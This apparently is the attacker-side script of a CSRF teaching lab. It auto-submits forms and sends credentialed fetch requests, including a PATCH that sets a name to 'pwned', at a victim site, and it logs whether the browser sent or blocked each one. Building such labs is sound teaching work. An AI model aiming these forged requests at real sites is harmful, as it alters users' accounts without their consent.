// The simulated attacker page of the CSRF lab, served under the instance's
// other name: it fires each state-changing request at the victim site with
// whatever cookies the browser attaches. It cannot read the answers.
(function () {
  "use strict";
  var items = document.querySelectorAll("#attacks li[data-attack]");
  if (!items.length) return;
  var pending = items.length;

  function settled(item, text) {
    var state = item.querySelector("[data-field=state]");
    if (state.dataset.done) return;
    state.dataset.done = "1";
    state.textContent = text;
    pending -= 1;
    if (pending === 0) {
      document.getElementById("attacker-done").hidden = false;
      document.body.dataset.state = "done";
    }
  }

  items.forEach(function (item) {
    var form = item.querySelector("form[data-autosubmit]");
    if (form) {
      var frame = item.querySelector("iframe");
      frame.addEventListener("load", function () { settled(item, "form posted"); });
      // The answer is framed nowhere (X-Frame-Options: DENY): do not wait for ever.
      window.setTimeout(function () { settled(item, "form posted"); }, 4000);
      form.submit();
      return;
    }
    var init = item.dataset.method === "POST"
      // A "simple" request: no preflight, the browser sends it and hides the answer.
      ? { method: "POST", credentials: "include", mode: "no-cors" }
      // Not simple (PATCH, JSON): the browser asks the site first (CORS preflight).
      : { method: item.dataset.method, credentials: "include", headers: { "Content-Type": "application/json" },
          body: JSON.stringify({ first_name: "pwned" }) };
    fetch(item.dataset.url, init).then(function () {
      settled(item, "sent (answer unreadable)");
    }, function () {
      settled(item, "refused by the browser (no CORS permission)");
    });
  });
})();
